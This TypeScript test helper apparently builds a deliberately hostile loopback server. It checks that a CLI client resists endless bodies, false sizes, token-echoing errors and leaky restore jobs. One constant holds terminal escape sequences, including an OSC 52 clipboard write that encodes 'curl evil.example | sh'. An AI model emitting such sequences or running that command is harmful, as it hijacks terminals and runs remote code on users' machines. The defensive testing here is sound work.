/**
 * A hostile or broken service for issue 11 ("a hostile or broken service must never leak a secret,
 * hang svc, or eat memory"): the API (/api/v1/...) and a presigned-style artifact route
 * (/artifacts/<name>?X-Amz-...&X-Amz-Signature=<secret>) on one LoopbackServer, each route answered
 * by a Reply the test picks. The Reply factories below each do one misbehaviour and compose
 * (`announcing(2 ** 40, endless(200))`). Every response is metered: `sent` says how many bytes the
 * server put on the socket before the response ended or the client hung up, so a test can prove svc
 * stopped reading early.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { drained } from './artifact-bodies.js';
import { presignedQuery } from './artifact-server.js';
import { fixture } from './fixtures.js';
import { json, LoopbackServer, type Exchange, type Reply } from './loopback-server.js';

/** What one response sent. */
export interface Sent {
  method: string;
  /** Path and query string. */
  path: string;
  status: number;
  /**
   * Bytes written to the socket for this response (status line, headers, body): what the client
   * could have read. Kernel socket buffers hold some of it, so a client that stops at 64 KiB still
   * leaves a few MiB counted here; an unbounded reader leaves an ever-growing number.
   */
  bytes: number;
  /** The client closed the connection before the response was complete. */
  hungUp: boolean;
  /** The response is over: complete, or cut off by the client. */
  done: boolean;
}

export type Answer = Reply | ((exchange: Exchange) => Reply);

interface Route {
  method: string;
  pathname: string;
  answer: Answer;
}

export const MiB = 1024 * 1024;

/** The largest buffer the kernel lets a TCP socket grow to in one direction (`net.ipv4.tcp_rmem`, `tcp_wmem`: min default max). */
const tcpBufferMax = (name: 'tcp_rmem' | 'tcp_wmem'): number => Number(readFileSync(`/proc/sys/net/ipv4/${name}`, 'utf8').trim().split(/\s+/)[2]);

/**
 * The most a loopback connection can hold between the server's write and the client's read: the
 * server's send buffer and the client's receive buffer at the kernel's maxima, and 1 MiB for Node's
 * own stream buffers. A client that stops reading after N bytes leaves at most N plus this counted
 * on the server (`Sent.bytes`). Read from the kernel: a fixed 8 MiB was once passed by 4.6 KB here,
 * where a receive buffer may grow to 32 MiB.
 */
export const SOCKET_BUFFERS_MAX = tcpBufferMax('tcp_wmem') + tcpBufferMax('tcp_rmem') + MiB;
export const ARTIFACT_NAME = 'acme-orders.pgdump';

/** Terminal control sequences a hostile service puts in names and messages. */
export const SEQUENCES = {
  /** OSC 0: sets the terminal's title. */
  title: '\u001b]0;pwned\u0007',
  /** CSI 2J: clears the screen. */
  clear: '\u001b[2J',
  /** OSC 52: writes the clipboard ("curl evil.example | sh"). */
  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  /** C1 CSI, which some terminals honour like ESC [. */
  c1: '\u009b31m',
} as const;

/** `text` with every sequence of SEQUENCES inside it. */
export function withSequences(text: string): string {
  return `${text}${SEQUENCES.title}${SEQUENCES.clear}-x${SEQUENCES.clipboard}${SEQUENCES.c1}`;
}

/** What a control-character filter leaves of withSequences(text). */
export function withSequencesStripped(text: string): string {
  return `${text}]0;pwned[2J-x]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==31m`;
}

export class HostileServer {
  readonly loopback = new LoopbackServer();
  /** Every response, in order, with the bytes it sent. */
  readonly sent: Sent[] = [];
  /** The artifact route's X-Amz-Signature: a secret the tests search every output for. */
  readonly signature = randomBytes(32).toString('hex');
  #routes: Route[] = [];

  async start(): Promise<this> {
    await this.loopback.start();
    this.loopback.otherwise((exchange) => this.#answer(exchange));
    return this;
  }

  async stop(): Promise<void> {
    await this.loopback.stop();
  }

  /** Forgets routes, records and meters (between tests). */
  reset(): void {
    this.loopback.reset();
    this.loopback.otherwise((exchange) => this.#answer(exchange));
    this.#routes = [];
    this.sent.length = 0;
  }

  get baseUrl(): string {
    return this.loopback.baseUrl;
  }

  /** Every request received, in order. */
  get exchanges(): Exchange[] {
    return this.loopback.exchanges;
  }

  /** Answers METHOD /api/v1<path> (query string ignored); a later route for the same path wins. */
  api(method: 'GET' | 'POST', path: string, answer: Answer): this {
    this.#routes.unshift({ method, pathname: `/api/v1${path}`, answer });
    return this;
  }

  /** Answers GETs of the artifact route. */
  artifact(answer: Answer): this {
    this.#routes.unshift({ method: 'GET', pathname: this.artifactPath, answer });
    return this;
  }

  get artifactPath(): string {
    return `/artifacts/${ARTIFACT_NAME}`;
  }

  /** The presigned-style URL of the artifact route (or the same path and query under another scheme). */
  presignedUrl(scheme: 'http' | 'file' | 'data' | 'ftp' = 'http'): string {
    const query = presignedQuery(this.signature);
    if (scheme === 'http') return `${this.baseUrl}${this.artifactPath}?${query}`;
    if (scheme === 'data') return `data:application/octet-stream;base64,UEdETVA=?${query}`;
    if (scheme === 'file') return `file:///srv/artifacts/${ARTIFACT_NAME}?${query}`;
    return `ftp://127.0.0.1:${this.loopback.port}${this.artifactPath}?${query}`;
  }

  /** Requests to one pathname (API paths without /api/v1), in order. */
  requestsTo(path: string): Exchange[] {
    const pathname = path.startsWith('/artifacts/') ? path : `/api/v1${path}`;
    return this.exchanges.filter((e) => e.url.pathname === pathname);
  }

  /** Responses to one pathname (API paths without /api/v1), in order. */
  sentTo(path: string): Sent[] {
    const pathname = path.startsWith('/artifacts/') ? path : `/api/v1${path}`;
    return this.sent.filter((s) => s.path.split('?')[0] === pathname);
  }

  #answer(exchange: Exchange): Reply | undefined {
    const route = this.#routes.find((r) => r.method === exchange.method && r.pathname === exchange.url.pathname);
    if (!route) return undefined;
    const reply = typeof route.answer === 'function' ? route.answer(exchange) : route.answer;
    return this.#metered(exchange, reply);
  }

  /** The reply, with what it sends counted on its socket. */
  #metered(exchange: Exchange, reply: Reply): Reply {
    const inner = asCustom(reply);
    return {
      kind: 'custom',
      handle: (req, res) => {
        const socket = req.socket;
        const start = socket.bytesWritten;
        const record: Sent = { method: exchange.method, path: exchange.path, status: 0, bytes: 0, hungUp: false, done: false };
        this.sent.push(record);
        const update = () => {
          record.status = res.statusCode;
          record.bytes = socket.bytesWritten - start;
        };
        res.on('finish', update);
        res.on('close', () => {
          update();
          record.hungUp = !res.writableFinished;
          record.done = true;
        });
        inner(req, res);
      },
    };
  }
}

type Handle = (req: IncomingMessage, res: ServerResponse) => void;

function asCustom(reply: Reply): Handle {
  switch (reply.kind) {
    case 'custom':
      return reply.handle;
    case 'respond':
      return (_req, res) => void res.writeHead(reply.status, reply.headers).end(reply.body);
    case 'drop':
      return (req) => void req.socket.destroy();
    case 'hang':
      return () => {};
    case 'stall':
      return (_req, res) => void res.writeHead(reply.status, reply.headers).write(reply.partialBody);
  }
}

// ------------------------------------------------------------------ bodies that never end

/** A real body as JSON text, left open in a string that the filler continues: valid JSON so far, never finished. */
export function openJson(body: Record<string, unknown>): string {
  return `${JSON.stringify(body).slice(0, -1)},"padding":"`;
}

/** S3's XML error, left open inside its Message. */
export const OPEN_S3_ERROR = '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>InternalError</Code><Message>';

export interface EndlessOptions {
  /** Sent first; by default a real-looking JSON prefix for the status (a profile, or an API error). */
  prefix?: string;
  contentType?: string;
}

/**
 * `status`, then `prefix`, then filler in 64 KiB writes until the client hangs up (or the server
 * stops), waiting for 'drain' between writes so the server's own memory stays flat.
 */
export function endless(status: number, opts: EndlessOptions = {}): Reply {
  const prefix = opts.prefix ?? (status < 300 ? openJson(fixture('profile')) : openJson({ error: { code: 'internal', requestId: 'req_endless_1' } }));
  const filler = Buffer.alloc(64 * 1024, 'x');
  return {
    kind: 'custom',
    handle: (_req, res) =>
      void (async () => {
        res.writeHead(status, { 'content-type': opts.contentType ?? 'application/json', 'x-request-id': 'req_endless_1' });
        res.write(prefix);
        while (!res.destroyed) {
          if (!res.write(filler)) await drained(res);
        }
      })(),
  };
}

/** `reply` with a Content-Length of `bytes`, whatever it really sends (far more than it sends, or than anyone expects). */
export function announcing(bytes: number, reply: Reply): Reply {
  const inner = asCustom(reply);
  return {
    kind: 'custom',
    handle: (req, res) => {
      const writeHead = res.writeHead.bind(res) as (status: number, headers?: Record<string, unknown>) => ServerResponse;
      res.writeHead = ((status: number, headers: Record<string, unknown> = {}) => {
        const rest = Object.fromEntries(Object.entries(headers).filter(([k]) => !/^(content-length|transfer-encoding)$/i.test(k)));
        return writeHead(status, { ...rest, 'content-length': String(bytes) });
      }) as typeof res.writeHead;
      inner(req, res);
    },
  };
}

// ------------------------------------------------------------------ echoes of secrets

/** The bearer token of a request, as the service received it. */
export function bearer(exchange: Exchange): string {
  return (exchange.headers.get('authorization') ?? '').replace(/^Bearer /, '');
}

/** The random part of a token (svc_live_<hex> without its prefix), which a service may print alone. */
export function hexPart(token: string): string {
  return /[0-9a-f]{16,}$/i.exec(token)?.[0] ?? token;
}

/**
 * `status` with the caller's token copied into every field of the error body and into
 * X-Request-ID and the RateLimit headers (a service that logs the Authorization header into its
 * answers); the message carries the token's hex part alone too.
 */
export function echoingError(status: number): (exchange: Exchange) => Reply {
  return (exchange) => {
    const token = bearer(exchange);
    const authorization = exchange.headers.get('authorization') ?? '';
    return json(
      status,
      {
        error: {
          code: `invalid_key_${token}`,
          message: `The key ${token} (…${hexPart(token)}) was refused; you sent "${authorization}".`,
          requestId: token,
          requiredScope: `databases:read for ${token}`,
          nextAction: `Revoke ${authorization} in Settings > API tokens.`,
        },
      },
      { 'X-Request-ID': token, 'RateLimit-Limit': token, 'RateLimit-Remaining': authorization, 'RateLimit-Reset': hexPart(token) },
    );
  };
}

export interface Coordinates {
  presignedS3Url: string;
  expectedSizeBytes: number;
  expectedSha256: string;
  lockToken: string;
}

/** A restoreJob (fixture shape) that carries `leaked` (lock tokens, presigned URLs) in an extra field and in errorMessage. */
export function leakyRestoreJob(leaked: { lockToken?: string; presignedS3Url?: string }, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const { restoreJob } = fixture('restore-get');
  const said = [leaked.lockToken && `lock ${leaked.lockToken}`, leaked.presignedS3Url && `from ${leaked.presignedS3Url}`].filter(Boolean).join(' ');
  return {
    ...restoreJob,
    errorKind: 'download_failed',
    errorMessage: `worker failed (${said})`,
    debug: { lockToken: leaked.lockToken, presignedS3Url: leaked.presignedS3Url },
    ...overrides,
  };
}

/**
 * The createRestore 202 body: `coords` as execution, and a restoreJob that, with `echo`, repeats
 * them (an extra field, errorMessage, and the lock token in the job id, which human output shows).
 */
export function restoreCreated(coords: Coordinates, opts: { echo?: boolean; mode?: 'new_database' | 'in_place' } = {}): Record<string, unknown> {
  const queued = {
    id: opts.echo ? `rj_hostile_${coords.lockToken}` : 'rj_hostile',
    mode: opts.mode ?? 'new_database',
    state: 'queued',
    finalizedAt: null,
    heartbeatAt: null,
    proof: { completedBackup: true, verifiedRestore: false, provenRecoverability: false },
  };
  const job = opts.echo ? leakyRestoreJob(coords, queued) : { ...fixture('restore-get').restoreJob, ...queued };
  return {
    restoreJob: job,
    execution: { jobId: '6f1c2d3e-4b5a-4c7d-8e9f-0a1b2c3d4e5f', manifestObjectKey: 'manifests/db_orders/bj_x.json', ...coords },
  };
}

/** getRestore's body, echoing `leaked`. */
export function restoreGot(leaked: { lockToken?: string; presignedS3Url?: string }): Record<string, unknown> {
  return { restoreJob: leakyRestoreJob(leaked, { state: 'failed_terminal' }) };
}

/** A list of restore jobs (not an operation of API v1, but `svc api /restores` prints whatever comes), echoing `leaked`. */
export function restoresListed(leaked: { lockToken?: string; presignedS3Url?: string }): Record<string, unknown> {
  return { restoreJobs: [leakyRestoreJob(leaked, { id: 'rj_a' }), leakyRestoreJob(leaked, { id: 'rj_b' })], nextCursor: null };
}

// ------------------------------------------------------------------ lists that never end

/** The items of a page of freshCursorPages as the server sends them: `n` copies of the list fixture's first item, ids made distinct. */
export function pageItemsJson(listFixture: string, itemsKey: string, n: number): string {
  const template = (fixture(listFixture) as Record<string, unknown[]>)[itemsKey]![0] as Record<string, unknown>;
  return JSON.stringify(Array.from({ length: n }, (_, i) => ({ ...template, id: `${String(template.id)}_${i}` })));
}

/**
 * A list page answered with a fresh nextCursor every time (cur_1, cur_2, ...): `perPage` items (0
 * for empty pages; a function of the 1-based page number for a mix; see pageItemsJson). Each page
 * size is serialised and encoded once and written as it is, and only the cursor changes, so the
 * server stays cheap over 10,000 pages and over 2 MiB pages (a string body was encoded again on every write).
 * With `lastPage`, that page ends the list (nextCursor null).
 */
export function freshCursorPages(
  listFixture: string,
  itemsKey: string,
  perPage: number | ((page: number) => number),
  opts: { lastPage?: number } = {},
): (exchange: Exchange) => Reply {
  const encoded = new Map<number, Buffer>();
  const items = (n: number) => {
    if (!encoded.has(n)) encoded.set(n, Buffer.from(pageItemsJson(listFixture, itemsKey, n)));
    return encoded.get(n)!;
  };
  const head = Buffer.from(`{"${itemsKey}":`);
  let served = 0;
  return () => {
    served += 1;
    const page = served;
    const body = items(typeof perPage === 'number' ? perPage : perPage(page));
    const tail = Buffer.from(`,"nextCursor":${page === opts.lastPage ? 'null' : `"cur_${page}"`}}`);
    return {
      kind: 'custom',
      handle: (_req, res) => {
        res.writeHead(200, {
          'content-type': 'application/json',
          'content-length': String(head.length + body.length + tail.length),
          'x-request-id': `req_page_${page}`,
        });
        res.write(head);
        res.write(body);
        res.end(tail);
      },
    };
  };
}

// ------------------------------------------------------------------ sizes and schemes

/** 2^52 bytes (4 PiB): a size no disk holds and that still passes as a safe integer. */
export const SIZE_2_52 = 2 ** 52;

/** getBackup's completed fixture with the artifact's size replaced. */
export function backupSized(sizeBytes: number, base: Record<string, unknown> = fixture('backup-get-completed')): Record<string, unknown> {
  return { ...base, artifact: { ...(base.artifact as Record<string, unknown>), sizeBytes } };
}
